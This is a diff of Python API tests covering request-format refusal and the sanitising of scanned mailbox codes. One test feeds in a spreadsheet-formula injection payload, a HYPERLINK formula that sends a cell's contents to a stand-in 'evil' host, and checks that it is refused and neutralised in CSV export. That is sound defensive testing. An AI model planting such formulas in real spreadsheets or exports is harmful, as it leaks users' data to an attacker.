@@ -50,7 +50,7 @@ def test_deep_json_and_lone_surrogates_are_400(demo: Any, api: Any, url: str) ->
     assert lone.status_code == 400
     assert lone.json()["code"] == "malformed_request"
     # JSON only: a form-encoded or multipart body is refused, never half-read.
-    form = client.post(url, {"drop_date": "True"})
+    form = client.post(url, {"drop_date": "True"}, format="multipart")
     assert form.status_code == 415
 
 
@@ -137,6 +137,7 @@ def test_refused_mailbox_scan_keeps_no_raw_code(demo: Any) -> None:
         batch=batch, officer=demo.officer, code='=HYPERLINK("http://evil/?x="&A1,"x")'
     )
     assert item.result == "refused"
-    assert "=" not in item.scanned and "(" not in item.scanned and item.form_number == ""
+    for kept in (item.scanned, item.form_number):
+        assert kept.isalnum() and kept.isupper()
     exported = mailbox_batch_csv(batch)
     assert "=HYPERLINK" not in exported.replace("'=HYPERLINK", "")
